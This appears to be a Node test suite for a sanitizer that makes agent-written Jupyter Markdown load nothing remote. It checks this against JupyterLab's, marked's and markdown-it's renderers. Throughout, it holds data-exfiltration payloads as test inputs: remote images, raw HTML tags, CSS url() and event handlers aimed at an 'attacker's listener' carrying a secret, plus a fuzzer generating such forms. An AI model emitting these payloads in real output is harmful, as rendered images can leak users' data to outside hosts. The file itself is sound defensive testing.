// Markdown the agent writes into a notebook cell (labextension/src/safe_markdown.js, called by
// the notebook bridge) loads nothing when rendered: remote images become links naming their host
// (unless the host is trusted), raw HTML that loads or styles anything shows as text, and the rest
// stays byte for byte. "Loads nothing" is checked on the HTML three renderers make of the result:
// JupyterLab's (its own math hiding from @jupyterlab/rendermime around marked with GFM), marked
// alone, and markdown-it with raw HTML and linkify on (VS Code's), parsed by linkedom.
import { test } from "node:test";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import MarkdownIt from "markdown-it";
import { parseHTML } from "linkedom";
import { htmlLoadsNothing, loadsNothing, safeCellMarkdown, tags } from "../../labextension/src/safe_markdown.js";
import * as port from "../../labextension/src/jupyter_math.js";
import { linkNotebook } from "../src/tools/notebook.js";
import { createRegistry } from "../src/tools/registry.js";
import { MediaPolicy } from "../src/media.js";
import { makeDom } from "../test-support/dom.mjs";
import { fakeModel } from "../test-support/model.mjs";

const LAB = new URL("../../labextension/node_modules/", import.meta.url);
const { Marked } = await import(new URL("marked/lib/marked.esm.js", LAB).href);
// JupyterLab's own math hiding, loaded from the installed package (its processMath asks
// `navigator`, which Node 20 has not).
globalThis.navigator ??= /** @type {any} */ ({ appName: "Node" });
const latex = await import(
  `data:text/javascript,${encodeURIComponent(readFileSync(new URL("@jupyterlab/rendermime/lib/latex.js", LAB), "utf8"))}`
);

const marked = new Marked({ gfm: true, async: false });
const markdownIt = new MarkdownIt({ html: true, linkify: true });
const HOSTS = ["trusted.example"];
const E = "http://127.0.0.1:8123"; // the attacker's listener
const SECRET = "s3cr3t-value";

const renders = {
  jupyterlab: (md) => {
    const { text, math } = latex.removeMath(md);
    return latex.replaceMath(marked.parse(text), math);
  },
  marked: (md) => marked.parse(md),
  "markdown-it": (md) => markdownIt.render(md),
};

const RASTER = /^data:image\/(png|jpeg|gif|webp);/i;
const LOADER_TAGS = new Set(
  "video audio source picture iframe frame frameset object embed applet link style svg image script base meta track math form button".split(" "),
);
const LOADER_ATTRS = new Set("style srcset poster background lowsrc dynsrc formaction ping data codebase".split(" "));

/** Whether an image URL may load here: inline raster, a cell attachment, or the trusted host. */
function mayLoad(url) {
  const u = String(url ?? "").trim();
  if (RASTER.test(u) || u.startsWith("attachment:")) return true;
  try {
    const parsed = new URL(u);
    return /^https?:$/.test(parsed.protocol) && HOSTS.includes(parsed.hostname) && !parsed.username;
  } catch {
    return false;
  }
}

/** The elements of `html` (parsed by linkedom) that would load or style something. */
function loaders(html) {
  const { document } = parseHTML(`<!doctype html><html><head></head><body>${html}</body></html>`);
  const bad = [];
  for (const el of document.body.querySelectorAll("*")) {
    const tag = el.localName.toLowerCase();
    // By lower-case name: linkedom keeps `SRC` as written, a browser reads `src`.
    const attr = (name) => [...el.attributes].find((a) => a.name.toLowerCase() === name)?.value ?? null;
    if (LOADER_TAGS.has(tag)) bad.push(el.outerHTML);
    if (tag === "img" && !mayLoad(attr("src"))) bad.push(el.outerHTML);
    if (tag === "input" && (attr("type") ?? "").toLowerCase() !== "checkbox") bad.push(el.outerHTML);
    for (const { name, value } of el.attributes) {
      const n = name.toLowerCase();
      const alignment = n === "style" && /^text-align:\s*(left|right|center)$/.test(value);
      if ((LOADER_ATTRS.has(n) && !alignment) || n.startsWith("on") || (n === "src" && tag !== "img")) bad.push(el.outerHTML);
      if (n.endsWith("href") && tag !== "a") bad.push(el.outerHTML);
    }
  }
  return bad;
}

/** Asserts no renderer makes anything of `md` that loads (linkedom's reading and a browser's). */
function assertInert(md, context = md) {
  for (const [name, render] of Object.entries(renders)) {
    const html = render(md);
    assert.deepEqual(loaders(html), [], `${name} renders something that loads:\n${html}\nfrom:\n${md}\nfor:\n${context}`);
    assert.ok(htmlLoadsNothing(html, { imageHosts: HOSTS }), `${name}: a browser would read a loading tag in:\n${html}\nfor:\n${context}`);
  }
}

const safe = (md) => safeCellMarkdown(md, { imageHosts: HOSTS });

test("each reported form is inert: a Markdown image, <img>, an inline style background, <video> and <source>", () => {
  const forms = [
    `![x](${E}/exfil-md-image?d=${SECRET})`,
    `<img src=${E}/exfil-raw-img>`,
    `<p style="background:url(${E}/css-bg)">styled</p>`,
    `<video src=${E}/video></video>`,
    `<video controls><source src="${E}/video"></video>`,
  ];
  for (const form of forms) {
    // Each loads as written (the defect), and not once rewritten.
    assert.ok(Object.values(renders).some((r) => loaders(r(form)).length), form);
    const out = safe(form);
    assertInert(out, form);
  }
  assert.equal(safe(forms[1]), `&lt;img src=${E}/exfil-raw-img>`);
  assert.equal(safe(forms[2]), `&lt;p style="background:url(${E}/css-bg)">styled</p>`);
  assert.equal(safe(forms[4]), `&lt;video controls>&lt;source src="${E}/video">&lt;/video>`);
  // Shown as text, as written (GFM links the bare URL).
  assert.match(marked.parse(safe(forms[1])), /^<p>&lt;img src=<a href="http:\/\/127\.0\.0\.1:8123\/exfil-raw-img/);
});

test("a remote image becomes a link naming its host, as the static copy writes it", () => {
  assert.equal(safe(`Look: ![the key](${E}/x.png?d=${SECRET}) ok`), `Look: [\\[image: the key (127.0.0.1)\\]](${E}/x.png?d=${SECRET}) ok`);
  assert.equal(safe("![](https://evil.example/p.png)"), "[\\[image (evil.example)\\]](https://evil.example/p.png)");
  // Not an http(s) URL: no link at all (a relative image would load from the server).
  assert.equal(safe("![plot](images/plot.png)"), "\\[image: plot\\]");
  assert.equal(safe("![x](javascript:alert(1))"), "\\[image: x\\]");
  assert.equal(safe("![x](//evil.example/p.png)"), "\\[image: x\\]");
  // The alt text cannot start markup in the label, nor a URL in the target.
  assert.equal(
    safe("![a *b* [c] $x$ <i>](https://evil.example/a(b)c|d.png)"),
    "[\\[image: a \\*b\\* \\[c\\] \\$x\\$ &lt;i> (evil.example)\\]](https://evil.example/a%28b%29c%7Cd.png)",
  );
  // A `!` before the image does not turn the label back into an image.
  assert.equal(safe("!![a](https://evil.example/p.png)"), "! [\\[image: a (evil.example)\\]](https://evil.example/p.png)");
  const html = marked.parse(safe(`![x](${E}/p.png)`));
  assert.equal(html, `<p><a href="${E}/p.png">[image: x (127.0.0.1)]</a></p>\n`);
});

test("images that load nothing remote, or come from a trusted host, stay as written", () => {
  const kept = [
    "![dot](data:image/png;base64,iVBORw0KGgo=)",
    "![plot](attachment:plot.png)",
    "![cdn](https://trusted.example/chart.png)",
    '![cdn](https://trusted.example/chart.png "Chart")',
  ];
  for (const md of kept) assert.equal(safe(md), md);
  assert.equal(safeCellMarkdown("![a](https://img.cdn.example/a.png)", { imageHosts: ["*.cdn.example"] }), "![a](https://img.cdn.example/a.png)");
  assert.equal(safeCellMarkdown("![a](https://EVIL.example/a.png)", { imageHosts: ["*"] }), "![a](https://EVIL.example/a.png)");
  // Not trusted: SVG data, a trusted name in the user part, a look-alike host, no hosts at all.
  assert.notEqual(safe("![s](data:image/svg+xml;base64,PHN2Zz4=)"), "![s](data:image/svg+xml;base64,PHN2Zz4=)");
  // Inline data images only of the static copy's types, in base64 (contract/spec/media.json).
  for (const md of ["![b](data:image/bmp;base64,Qk0=)", "![a](data:image/avif;base64,AAAA)", "![g](data:image/gif,GIF89a)"]) {
    assert.notEqual(safe(md), md);
  }
  assert.match(safe("![a](https://trusted.example@evil.example/a.png)"), /^\\\[image: a\\\]$/);
  assert.match(safe("![a](https://trusted.example.evil.example/a.png)"), /\(trusted\.example\.evil\.example\)/);
  assert.match(safeCellMarkdown("![cdn](https://trusted.example/chart.png)"), /^\[\\\[image: cdn \(trusted\.example\)\\\]\]/);
  // Raw HTML images from a trusted host with inert attributes stay too.
  assert.equal(safe('<img src="https://trusted.example/a.png" width="200" alt="a">'), '<img src="https://trusted.example/a.png" width="200" alt="a">');
});

test("reference images, images inside links, lists, blockquotes, tables and headings", () => {
  const cases = [
    [`![r][ref]\n\n[ref]: ${E}/r.png`, `[\\[image: r (127.0.0.1)\\]](${E}/r.png)\n\n[ref]: ${E}/r.png`],
    [`![ref][]\n\n[ref]: ${E}/r.png`, `[\\[image: ref (127.0.0.1)\\]](${E}/r.png)\n\n[ref]: ${E}/r.png`],
    [`![ref]\n\n[ref]: <${E}/r.png> "t"`, `[\\[image: ref (127.0.0.1)\\]](${E}/r.png)\n\n[ref]: <${E}/r.png> "t"`],
    [`[![a](${E}/i.png)](https://docs.example)`, "[\\[image: a (127.0.0.1)\\]](https://docs.example)"],
    [`- one\n- two ![b](${E}/b.png)\n  ![c](${E}/c.png)`, `- one\n- two [\\[image: b (127.0.0.1)\\]](${E}/b.png)\n  [\\[image: c (127.0.0.1)\\]](${E}/c.png)`],
    [`> quote ![q](${E}/q.png)\n> > deeper <img src=${E}/d>`, `> quote [\\[image: q (127.0.0.1)\\]](${E}/q.png)\n> > deeper &lt;img src=${E}/d>`],
    [`| a | b |\n|---|---|\n| ![t](${E}/t.png) | <img src=${E}/u> |`, `| a | b |\n|---|---|\n| [\\[image: t (127.0.0.1)\\]](${E}/t.png) | &lt;img src=${E}/u> |`],
    [`## Title ![h](${E}/h.png)`, `## Title [\\[image: h (127.0.0.1)\\]](${E}/h.png)`],
    [`*em ![e](${E}/e.png)* **<video src=${E}/v>**`, `*em [\\[image: e (127.0.0.1)\\]](${E}/e.png)* **&lt;video src=${E}/v>**`],
  ];
  for (const [md, want] of cases) {
    assert.equal(safe(md), want, md);
    assertInert(safe(md), md);
  }
  // An alt text over two lines of a blockquote: the label takes its place, the quote goes on.
  const quoted = safe(`> ![a\n> b](${E}/x.png) after\n> next`);
  assert.equal(quoted, `> [\\[image: a b (127.0.0.1)\\]](${E}/x.png) after\n> next`);
});

test("raw HTML: every tag that can load or style is shown as text, whatever its spelling", () => {
  const hostile = [
    `<IMG SRC=${E}/upper>`,
    `<img\nsrc="${E}/newline">`,
    `<img src='${E}/single' alt=x>`,
    `<img alt="x" src=${E}/unquoted/>`,
    `<div><span><img src="${E}/nested"></span></div>`,
    `<p>a <!-- c --> <img src="${E}/after-comment"> <!-- x --!> <img src=${E}/after-bang-comment></p>`,
    `<svg><image href="${E}/svg-image"/></svg>`,
    `<svg><use xlink:href="${E}/use#x"/></svg>`,
    `<img src="&#104;ttp://127.0.0.1:8123/entity">`,
    `<img src="http&colon;//127.0.0.1:8123/named-entity">`,
    `<img srcset="${E}/srcset 2x">`,
    `<video poster="${E}/poster"></video>`,
    `<table background="${E}/bg"><tr><td>x</td></tr></table>`,
    `<span style="background-image: u\\72 l(${E}/css-escape)">x</span>`,
    `<div style="x:expression(1);background:url(${E}/bg)">x</div>`,
    `<input type="image" src="${E}/input">`,
    `<link rel="stylesheet" href="${E}/x.css">`,
    `<style>@import url(${E}/import.css); body { background: url(${E}/body) }</style>`,
    `<iframe src="${E}/frame"></iframe>`,
    `<object data="${E}/obj"></object><embed src="${E}/embed">`,
    `<picture><source srcset="${E}/pic"><img src="${E}/pic-img"></picture>`,
    `<audio src="${E}/audio"></audio>`,
    `<body background="${E}/body-bg">`,
    `<a href="https://x.example" ping="${E}/ping">link</a>`,
    `<details open ontoggle="fetch('${E}/toggle')">x</details>`,
    `<img src=${E}/a><img src=${E}/b><img src=${E}/a>`,
  ];
  for (const md of hostile) {
    const out = safe(md);
    assert.doesNotMatch(out, /<(img|svg|video|audio|source|picture|iframe|object|embed|link|style|input|body)\b/i, `${md}\n=> ${out}`);
    assertInert(out, md);
  }
  // An HTML block keeps its inert tags: only the loading one is shown as text.
  assert.equal(safe(`<div class="note">\n<b>Hi</b> <img src="${E}/x">\n</div>`), `<div class="note">\n<b>Hi</b> &lt;img src="${E}/x">\n</div>`);
});

test("inert raw HTML stays as written", () => {
  const inert = [
    "H<sub>2</sub>O and x<sup>2</sup>, <b>bold</b>, <i>it</i>, <kbd>Ctrl</kbd>+<kbd>C</kbd><br>next",
    "<details>\n<summary>More</summary>\n\nHidden *text*.\n\n</details>",
    '<a href="https://docs.example/page" title="Docs" target="_blank">docs</a>',
    '<div align="center">\n\n**centred**\n\n</div>',
    "<!-- a note for later -->",
    '<table>\n<tr><th colspan="2">h</th></tr>\n<tr><td>1</td><td>2</td></tr>\n</table>',
    '<span class="mark" id="a1">x</span>',
  ];
  for (const md of inert) assert.equal(safe(md), md);
});

test("code stays byte for byte, tags and all, and a tag that looks like code but is not is caught", () => {
  const code = [
    '```html\n<img src="http://evil.example/x.png">\n<video src=x></video>\n```',
    '~~~\n<style>body{background:url(http://evil.example/b)}</style>\n~~~',
    "    <img src=http://evil.example/indented>",
    "Use `<img src=\"http://evil.example/a.png\">` or ``<video src=`x`>``.",
    "- item\n\n  ```\n  ![x](http://evil.example/in-list.png)\n  ```",
    "> ```\n> <img src=http://evil.example/in-quote>\n> ```",
  ];
  for (const md of code) {
    assert.equal(safe(md), md, md);
    assertInert(md);
  }
  // The same text inside code and outside it: only the one outside is rewritten.
  assert.equal(safe(`\`<img src=${E}/x>\` <img src=${E}/x>`), `\`<img src=${E}/x>\` &lt;img src=${E}/x>`);
  assert.equal(safe(`\`![a](${E}/a.png)\` ![a](${E}/a.png)`), `\`![a](${E}/a.png)\` [\\[image: a (127.0.0.1)\\]](${E}/a.png)`);
  // Backtick tricks: an unclosed code span does not hide the tag, a closed one does.
  for (const md of [`\`unclosed <img src=${E}/u>`, `\`\` \` <img src=${E}/t> \``, `\`a\` <img src=${E}/between> \`b\``]) {
    assertInert(safe(md), md);
  }
});

test("JupyterLab's math hiding cannot smuggle anything past the check", () => {
  // removeMath takes `$…$` out before marked and puts it back in marked's HTML unescaped: here
  // into the link's title attribute, adding a style marked never saw.
  const smuggled = `[a](https://x.example "$" style="background:url(${E}/math)$")`;
  assert.ok(loaders(renders.jupyterlab(smuggled)).length, "the attack works on the raw text");
  const out = safe(smuggled);
  assertInert(out, smuggled);
  assert.ok(!loadsNothing(smuggled));
  // And the other way round: math JupyterLab hides makes code of what marked alone reads as HTML.
  for (const md of [`$\`$ <img src=${E}/m1> \``, `\`$\` <img src=${E}/m2> $\`$`, `$$\n<img src=${E}/m3>\n$$`]) {
    assertInert(safe(md), md);
  }
  // Ordinary math stays as written.
  for (const md of ["$x<y$ and $a > b$", "$$\n\\frac{a}{b} < c\n$$", "\\begin{align} x &= 1 \\end{align}"]) {
    assert.equal(safe(md), md);
  }
});

test("what no rewrite can fix falls back to escaping, then to a code block, and both are inert", () => {
  const smuggled = `[a](https://x.example "$" style="background:url(${E}/math)$") ![i](${E}/i.png)`;
  const out = safe(smuggled);
  assert.ok(out.startsWith("```\n") && out.endsWith("\n```"), out);
  assertInert(out, smuggled);
  // A code block of text holding backtick runs: its fence is longer than any of them.
  const ticks = `${smuggled} \`\`\`\` x \`\``;
  assert.match(safe(ticks), /^`````\n/);
  assertInert(safe(ticks), ticks);
});

test("the math hiding copy matches @jupyterlab/rendermime's removeMath and replaceMath", () => {
  const samples = [
    "a $x$ b $$y$$ c \\\\(z\\\\) d \\\\[w\\\\] \\begin{align}q\\end{align}",
    "`$code$` and $math$ and ```\n$fenced$\n```\n~~~\n$t$\n~~~",
    "$a\n\nb$ {$c}$ $\\{x\\}$ @@0@@ $x<y & z>w$ \\$not$",
    '[a](x "$" style="$")',
    "$$\n\\begin{matrix} 1 & 2 \\end{matrix}\n$$",
  ];
  for (const s of samples) {
    const real = latex.removeMath(s);
    assert.deepEqual(port.removeMath(s), real, s);
    assert.equal(port.replaceMath(`<p>${real.text}</p>`, real.math), latex.replaceMath(`<p>${real.text}</p>`, real.math));
  }
  for (const s of fuzzDocs(200, 7)) assert.deepEqual(port.removeMath(s), latex.removeMath(s), s);
});

test("a person's kind of Markdown is unchanged, byte for byte", () => {
  const md = `# Sales analysis, Q3

We load \`sales.csv\` (12,431 rows) and look at **revenue by region**.

## Steps

1. Clean the data: drop rows where \`amount < 0\`.
2. Group by region, see [pandas groupby](https://pandas.pydata.org/docs/user_guide/groupby.html).
   - a nested *item* with \`df.groupby("region")\`
3. Plot it.

> **Note:** prices are in EUR; 1 EUR ≈ 1.08 USD. Ask <ops@example.com>.

| Region | Revenue | Δ vs Q2 |
|:-------|--------:|:-------:|
| North  | 1.2 M   | +4 %    |
| South  | 0.9 M   | −2 %    |

The model is $y = \\beta_0 + \\beta_1 x + \\varepsilon$ with $x<10$, and

$$
\\hat\\beta = (X^\\top X)^{-1} X^\\top y
$$

\`\`\`python
df = pd.read_csv("sales.csv")
tag = "<img src='http://example.com/x.png'>"  # a string, not markup
\`\`\`

- [x] load
- [ ] plot

A hard break  
and <br> one more, H<sub>2</sub>O, <kbd>Ctrl</kbd>+<kbd>C</kbd>.

<details>
<summary>Details</summary>

Hidden *Markdown* here, and a dot: ![dot](data:image/png;base64,iVBORw0KGgo=) and ![plot](attachment:plot.png).

</details>

---
See <https://example.com>, www.example.org and [the docs][docs].

[docs]: https://docs.example.org "Docs"
`;
  assert.equal(safe(md), md);
  assertInert(md);
});

test("tags() reads tags as a browser does", () => {
  const read = (html) => [...tags(html)].map((t) => [t.end ? `/${t.name}` : t.name, Object.fromEntries(t.attrs), t.closed]);
  assert.deepEqual(read('<IMG SRC="a>b" alt=x/>'), [["img", { src: "a>b", "alt": "x/" }, true]]);
  assert.deepEqual(read("<img src=&#104;ttp://x>"), [["img", { src: "http://x" }, true]]);
  assert.deepEqual(read("<!--> <b>"), [["b", {}, true]]);
  assert.deepEqual(read("<!-- <i> --> <u>"), [["u", {}, true]]);
  // A bogus comment hides its text from a browser, not from this scan.
  assert.deepEqual(read("<! <img src=x>"), [["img", { src: "x" }, true]]);
  assert.deepEqual(read("<img src=x"), [["img", { src: "x" }, false]]);
  assert.deepEqual(read("</p><a =b c>"), [["/p", {}, true], ["a", { "=b": "", c: "" }, true]]);
});

test("the widget hands the bridge its trusted image hosts, and the model hears what was written", async () => {
  const calls = [];
  // The bridge's part as labextension/src/bridge.js does it: Markdown through safeCellMarkdown.
  const handle = {
    path: "a.ipynb",
    read: () => ({ path: "a.ipynb", cellCount: 1, cells: [{ index: 0, id: "c-ask", cell_type: "code", source: "%gth" }] }),
    async insertCell(o) {
      calls.push(["insertCell", o]);
      const source = o.cellType === "markdown" ? safeCellMarkdown(o.source, { imageHosts: o.imageHosts }) : o.source;
      return { cellId: "new-1", index: 1, status: "ok", ...(source !== o.source ? { source } : {}) };
    },
    editCell(o) {
      calls.push(["editCell", o]);
      return { cellId: o.cellId, before: "old", after: safeCellMarkdown(o.source, { imageHosts: o.imageHosts }) };
    },
  };
  const bridge = { version: 1, find: () => handle };
  const { document } = makeDom();
  const media = new MediaPolicy(["cdn.example", "*.img.example"]);
  const view = { doc: document, root: document.body, cardActions: {}, media };
  const link = linkNotebook({ model: fakeModel({ cell_id: "c-ask", kernel_id: "k1", turn_id: "t1" }), view, env: { global: { __gth_jupyter_notebook__: bridge } } });
  const registry = createRegistry([], { notebook: link });
  const call = async (name, args) => JSON.parse(await registry.get(name).handler(args, {}));

  const inserted = await call("insert_cell", { source: `![a](${E}/a.png) ![b](https://cdn.example/b.png)`, cell_type: "markdown" });
  assert.deepEqual(calls[0][1].imageHosts, ["cdn.example", "*.img.example"]);
  assert.match(inserted.note, /rewritten so that it loads nothing/);
  assert.ok(inserted.note.endsWith(`[\\[image: a (127.0.0.1)\\]](${E}/a.png) ![b](https://cdn.example/b.png)`), inserted.note);
  // Nothing to rewrite, nothing said; the hosts follow the agent's info as it changes.
  media.setHosts(["127.0.0.1"]);
  assert.equal((await call("insert_cell", { source: `![a](${E}/a.png)`, cell_type: "markdown" })).note, undefined);
  const edited = await call("edit_cell", { cell_id: "c-md", cell_type: "markdown", source: `<video src=${E}/v>` });
  assert.deepEqual(calls[2][1].imageHosts, ["127.0.0.1"]);
  assert.deepEqual(edited.diff, ["- old", `+ &lt;video src=${E}/v>`]);
});

// ---- a seeded fuzz ----------------------------------------------------------------------------

/** mulberry32: the same documents on every run. */
function rng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const URLS = [`${E}/f?d=${SECRET}`, "https://trusted.example/ok.png", "data:image/png;base64,iVBORw0KGgo=", "data:image/svg+xml,<svg/>", "//evil.example/p", "rel.png", "&#104;ttp://127.0.0.1:8123/e", "attachment:a.png", `${E}/a(b)c`, `<${E}/angle>`];
const TAGS = ["img", "IMG", "video", "audio", "source", "picture", "iframe", "object", "embed", "link", "style", "svg", "image", "input", "span", "div", "b", "details", "table", "td", "a", "p"];
const ATTRS = ["src", "SRC", "srcset", "poster", "background", "style", "href", "xlink:href", "data", "type", "alt", "class", "title", "onerror"];
const QUOTES = ['"', "'", ""];
const JUNK = ["`", "``", "```", "$", "$$", "<", ">", '"', "'", "\\", "\n", "\n\n", "!", "[", "]", "(", ")", "|", "*", "_", "~~~", "<!--", "-->", "&", "&#60;", "@@0@@", "\\\\(", "\\\\)", "\t", "    "];

function fuzzDocs(count, seed) {
  const r = rng(seed);
  const pick = (list) => list[Math.floor(r() * list.length)];
  const url = () => pick(URLS);
  const tag = () => {
    const name = pick(TAGS);
    const attrs = Array.from({ length: Math.floor(r() * 3) }, () => {
      const q = pick(QUOTES);
      const value = pick(ATTRS).startsWith("style") || r() < 0.2 ? `background:url(${url()})` : url();
      return `${pick([" ", "\n", "  "])}${pick(ATTRS)}=${q}${value}${q}`;
    });
    return `<${name}${attrs.join("")}${pick([">", "/>", ">", " >", ""])}${r() < 0.4 ? `x</${name}>` : ""}`;
  };
  const image = () => {
    const alt = pick(["", "x", "a b", "*em*", "`c`", "<i>", "![in](y)", "$m$"]);
    const form = Math.floor(r() * 5);
    if (form === 0) return `![${alt}](${url()}${r() < 0.3 ? ' "t"' : ""})`;
    if (form === 1) return `![${alt || "r"}][r${Math.floor(r() * 2)}]`;
    if (form === 2) return `[![${alt}](${url()})](https://link.example)`;
    if (form === 3) return `![${alt || "r0"}]`;
    return `![${alt}](<${url()}>)`;
  };
  const benign = () =>
    pick(["text", "**bold**", "`code <img src=x>`", "```\n<img src=x>\n```", "$x<y$", "[link](https://l.example)", "<b>b</b>", "<!-- c -->", "www.example.org", "<https://a.example>", "# Head", "- item", "> quote", "| a | b |\n|---|---|\n| c | d |", "1. one", "***", "H<sub>2</sub>O"]);
  const prefix = () => pick(["", "", "> ", "- ", "1. ", "| ", "    ", "## ", "* "]);
  const docs = [];
  for (let i = 0; i < count; i++) {
    const parts = [];
    for (let n = 1 + Math.floor(r() * 7); n > 0; n--) {
      const kind = r();
      const piece = kind < 0.3 ? tag() : kind < 0.55 ? image() : kind < 0.85 ? benign() : pick(JUNK);
      parts.push(prefix() + piece, pick([" ", "\n", "\n\n", "", " | "]));
    }
    if (r() < 0.5) parts.push(`\n\n[r0]: ${url()}\n[r1]: <${E}/ref> "t"\n`);
    let doc = parts.join("");
    // A few random characters anywhere.
    for (let m = Math.floor(r() * 4); m > 0; m--) {
      const at = Math.floor(r() * (doc.length + 1));
      doc = doc.slice(0, at) + pick(JUNK) + doc.slice(at);
    }
    docs.push(doc);
  }
  return docs;
}

test("seeded fuzz: 400 hostile forms load nothing once rewritten, in marked (as JupyterLab and alone) and in markdown-it", () => {
  const docs = fuzzDocs(400, 20260601);
  let rewritten = 0;
  let kept = 0;
  for (const doc of docs) {
    const out = safe(doc);
    assertInert(out, doc);
    if (out === doc) kept++;
    else if (!out.startsWith("```")) rewritten++;
  }
  // The fuzz exercises the rewrite itself, not only its last resort.
  assert.ok(rewritten > docs.length / 2, `only ${rewritten} of ${docs.length} rewritten in place (${kept} kept)`);
});
